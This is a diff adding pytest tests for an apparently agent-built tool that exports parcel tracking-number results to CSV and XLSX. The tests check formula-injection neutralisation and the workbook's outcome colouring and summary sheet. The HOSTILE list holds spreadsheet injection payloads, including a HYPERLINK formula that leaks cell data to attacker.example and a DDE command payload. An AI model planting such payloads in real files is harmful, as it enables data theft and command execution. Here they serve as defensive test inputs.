@@ -6,11 +6,13 @@ import csv
 from pathlib import Path
 
 import openpyxl
+import pytest
 
 from agent.journal import ItemRecord
 from agent.plan import Plan, PlanRow
 from agent.records import ChangeRequest, Outcome
-from agent.results import RESULT_COLUMNS, ResultRow, result_rows, write_results
+from agent.results import OUTCOME_FILLS, RESULT_COLUMNS, ResultRow, result_rows, write_results
+from agent.spreadsheet_cells import FORMULA_STARTS, safe_cell
 
 P1, P2, P3 = "48173252-0033-2", "48173252-0034-1", "48173252-0035-1"
 RP = "62009147017544"
@@ -100,3 +102,45 @@ def test_result_rows_join_items_with_plan_rows_and_lose_no_row() -> None:
 def test_result_rows_without_a_plan_come_from_the_journal_alone() -> None:
     rows = result_rows(None, [_item(0, None, P1, Outcome.UNCHANGED)])
     assert [(r.posting_number, r.outcome, r.original) for r in rows] == [(P1, Outcome.UNCHANGED, {})]
+
+
+HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+           "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
+def test_csv_should_neutralise_every_cell_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, cell: str) -> None:
+    row = ResultRow(row_number=2, posting_number=P1, new_tracking=RP, outcome=Outcome.REJECTED, reason=cell,
+                    original={"货件编号": P1, "新单号": cell, "原因": cell})
+    csv_path, xlsx_path = write_results(tmp_path, [*COLUMNS, cell], [row])
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        table = list(csv.reader(handle))
+    cells = [value for line in table for value in line]
+    assert not any(value.startswith(FORMULA_STARTS) for value in cells), cells
+    record = dict(zip(table[0], table[1], strict=True))
+    assert record["reason"] == "'" + cell and record["原因"] == "'" + cell  # the text survives, shown as text
+    sheet = openpyxl.load_workbook(xlsx_path)["results"]
+    reason = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("reason") + 1)
+    # XLSX: stored as text, never a formula (XML turns a leading carriage return into a line feed)
+    assert reason.data_type == "s" and reason.value.lstrip("\r\n") == cell.lstrip("\r\n")
+
+
+def test_safe_cell_should_leave_ordinary_text_and_numbers_alone() -> None:
+    for text in ("RR473124829GB", "62009147017544", "物流商换单", "a=b", "", "0012"):
+        assert safe_cell(text) == text
+    assert safe_cell(None) == ""
+
+
+def test_xlsx_should_colour_outcomes_and_sum_them_up_on_a_summary_sheet(tmp_path: Path) -> None:
+    _, xlsx_path = write_results(tmp_path, COLUMNS, _rows())
+    workbook = openpyxl.load_workbook(xlsx_path)
+    assert workbook.sheetnames == ["results", "summary"]
+    sheet = workbook["results"]
+    column = [c.value for c in sheet[1]].index("outcome") + 1
+    fills = {sheet.cell(row=r, column=column).value: sheet.cell(row=r, column=column).fill.fgColor.rgb
+             for r in (2, 3)}
+    assert fills["changed"].endswith(OUTCOME_FILLS[Outcome.CHANGED])
+    assert fills["rejected"].endswith(OUTCOME_FILLS[Outcome.REJECTED])
+    assert sheet.auto_filter.ref == sheet.dimensions
+    summary = {row[0]: row[1] for row in workbook["summary"].iter_rows(min_row=2, values_only=True)}
+    assert summary == {"changed": 1, "unchanged": 0, "rejected": 1, "failed": 0, "pending": 0, "total": 2}
